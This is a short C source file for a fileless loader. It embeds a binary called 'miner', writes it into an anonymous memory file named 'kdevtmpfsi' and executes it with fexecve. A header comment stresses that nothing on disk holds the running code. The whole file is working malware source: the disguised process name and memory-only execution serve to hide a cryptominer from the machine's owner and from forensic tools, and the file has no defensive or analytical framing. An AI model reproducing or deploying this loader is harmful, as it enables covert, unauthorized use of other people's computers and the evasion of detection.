// loader [ARGV0]: runs its payload from memory: no file on any disk holds what then runs.
#define _GNU_SOURCE
#include <sys/mman.h>
#include <unistd.h>

__asm__(".section .rodata\n"
        "payload: .incbin \"miner\"\n"
        "payload_end:\n"
        ".previous");
extern const char payload[], payload_end[];

int main(int argc, char **argv, char **environment) {
  char *arguments[] = {argc > 1 ? argv[1] : "kdevtmpfsi", NULL};
  int fd = memfd_create("kdevtmpfsi", MFD_CLOEXEC);
  if (write(fd, payload, payload_end - payload) != payload_end - payload)
    return 1;
  fexecve(fd, arguments, environment);
  return 1;
}
